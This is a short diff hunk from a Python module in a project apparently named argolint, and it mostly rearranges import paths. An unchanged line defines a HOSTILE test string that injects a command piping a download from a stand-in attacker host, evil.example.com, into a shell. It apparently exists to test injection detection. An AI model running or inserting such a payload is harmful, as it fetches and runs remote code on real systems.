@@ -18,12 +18,12 @@ from argolint_rules.shared.advice import Shell, advice
 from argolint_rules.sync import _comparison, _refusals, invalid_spec
 from argolint_rules.sync._failures import Failed
 
-from argolint.app import App, app_from_list
-from argolint.fleet import Fleet
-from argolint.knowledge import dump, load
+from argolint.application.app import App, app_from_list
+from argolint.application.fleet import Fleet
+from argolint.application.resource import Health, Node, Resource
+from argolint.engine.plugins import load_rules
 from argolint.model import ResourceId
-from argolint.plugins import load_rules
-from argolint.resource import Health, Node, Resource
+from argolint.values.knowledge import dump, load
 
 HOSTILE = "web; curl evil.example.com | sh #"
 
